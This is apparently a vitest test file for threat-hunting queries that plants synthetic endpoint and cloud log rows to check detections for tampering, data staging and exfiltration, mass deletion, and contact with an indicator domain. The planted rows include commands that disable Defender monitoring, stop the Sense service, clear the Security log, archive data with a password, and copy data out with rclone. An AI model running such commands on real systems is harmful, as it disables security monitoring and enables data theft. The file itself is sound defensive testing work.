import { describe, expect, it } from 'vitest';
import { huntedTables, WORLD_NOW } from '../support/libraryWorld.mts';

const device = { DeviceId: 'a'.repeat(40), DeviceName: 'lt-1.corp.example' };
const at = (minute: number) => `2026-11-22T01:${String(minute).padStart(2, '0')}:00.0000000Z`;
const started = (minute: number, FileName: string, ProcessCommandLine: string) => ({
	...device,
	Timestamp: at(minute),
	ReportId: minute,
	ActionType: 'ProcessCreated',
	FileName,
	ProcessCommandLine,
	AccountName: 'someone',
});
const acted = (minute: number, ActionType: string, index: number) => ({
	Timestamp: at(minute),
	ReportId: `${minute}-${index}`,
	ActionType,
	Application: 'SharePoint',
	AccountObjectId: '11111111-2222-3333-4444-555555555555',
	AccountDisplayName: 'A',
	ObjectName: `f${index}`,
	ObjectId: `id${index}`,
	RawEventData: { UserId: 'a@b.example' },
});

describe('library hunts › planted rows', () => {
	it('protection turned off → each attempt, and no ordinary command', () => {
		const world = huntedTables({
			DeviceProcessEvents: [
				started(1, 'powershell.exe', 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'),
				started(2, 'sc.exe', 'sc stop Sense'),
				started(3, 'wevtutil.exe', 'wevtutil cl Security'),
				started(4, 'sc.exe', 'sc query Sense'),
				started(5, 'powershell.exe', 'powershell Get-MpPreference'),
			],
			DeviceRegistryEvents: [
				{
					...device,
					Timestamp: at(6),
					ReportId: 6,
					ActionType: 'RegistryValueSet',
					RegistryKey:
						'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths',
					RegistryValueName: 'C:\\x',
				},
			],
			DeviceEvents: [{ ...device, Timestamp: at(7), ReportId: 7, ActionType: 'TamperingAttempt' }],
		});
		expect(world.hunt('tampering', { devices: ['lt-1'] }).map((row) => row['ReportId'])).toEqual([
			'1',
			'2',
			'3',
			'6',
			'7',
		]);
	});

	it('archive with a password, rclone, foreign storage, bulk download → each, and no ordinary one', () => {
		const world = huntedTables({
			DeviceProcessEvents: [
				started(1, 'rar.exe', 'rar.exe a -hpSecret out.rar C:\\data'),
				started(2, 'rclone.exe', 'rclone copy C:\\data remote:x'),
				started(3, 'rar.exe', 'rar.exe x in.rar'),
			],
			DeviceNetworkEvents: [
				{ ...device, Timestamp: at(4), ReportId: 4, RemoteUrl: 'https://mega.nz/x' },
				{ ...device, Timestamp: at(5), ReportId: 5, RemoteUrl: 'https://omega.nz/x' },
			],
			CloudAppEvents: Array.from({ length: 120 }, (_, index) => acted(6, 'FileDownloaded', index)),
		});
		const rows = world.hunt('staging-exfiltration', { devices: ['lt-1'], users: ['a@b.example'] });
		expect(rows.map((row) => row['Kind'])).toEqual([
			'Archive or transfer program',
			'Archive or transfer program',
			'Foreign storage',
			'Bulk download',
		]);
		expect(world.hunt('staging-exfiltration', { users: ['a@b.example'], threshold: 121 })).toEqual([]);
	});

	it('mass deletion and sharing → one row for each kind and hour from the threshold on', () => {
		const world = huntedTables({
			CloudAppEvents: [
				...Array.from({ length: 50 }, (_, index) => acted(6, 'FileDeleted', index)),
				...Array.from({ length: 49 }, (_, index) => acted(7, 'SharingSet', index)),
			],
		});
		expect(world.hunt('cloud-mass-activity', { users: ['a@b.example'] })).toMatchObject([
			{ Activity: 'Deletion' },
		]);
		expect(world.hunt('cloud-mass-activity', { users: ['a@b.example'], threshold: 49 })).toHaveLength(2);
	});

	it('domain below or beside the searched one → only those below', () => {
		const connected = (minute: number, RemoteUrl: string) => ({
			...device,
			Timestamp: at(minute),
			ReportId: minute,
			RemoteUrl,
		});
		const urls = [
			'evil.example',
			'https://a.b.evil.example:8443/x',
			'EVIL.example/y',
			'notevil.example',
			'evil.example.org',
			'https://u@evil.example/',
		];
		const world = huntedTables({ DeviceNetworkEvents: urls.map((url, index) => connected(index, url)) });
		const found = world.hunt('indicator-contacts', { domains: ['evil.example'] });
		expect(found.map((row) => row['Url'])).toEqual([urls[0], urls[1], urls[2], urls[5]]);
	});

	it('edges of the time range → both included, a tick beyond not', () => {
		const times = [
			'2026-11-21T03:00:00.0000000Z',
			'2026-11-21T02:59:59.9999999Z',
			WORLD_NOW,
			'2026-11-22T03:00:00.0000001Z',
		];
		const world = huntedTables({
			DeviceProcessEvents: times.map((Timestamp, index) => ({
				...started(index, 'powershell.exe', 'powershell iwr https://x.example'),
				Timestamp,
			})),
		});
		expect(
			world
				.hunt('script-abuse', { devices: ['lt-1'] }, 1)
				.map((row) => String(row['ReportId']))
				.sort(),
		).toEqual(['0', '2']);
	});

	it('short, full and other-domain names, ID in any case → the devices meant', () => {
		const other = { DeviceId: 'b'.repeat(40), DeviceName: 'lt-1.other.example' };
		const world = huntedTables({
			DeviceProcessEvents: [device, other].map((one, index) => ({
				...started(index, 'mshta.exe', 'mshta https://x'),
				...one,
			})),
		});
		const idsOf = (name: string) =>
			world
				.hunt('script-abuse', { devices: [name] })
				.map((row) => String(row['ReportId']))
				.sort();
		expect(idsOf('LT-1')).toEqual(['0', '1']);
		expect(idsOf('lt-1.CORP.example')).toEqual(['0']);
		expect(idsOf('A'.repeat(40))).toEqual(['0']);
		expect(idsOf('lt-1.corp')).toEqual([]);
	});
});
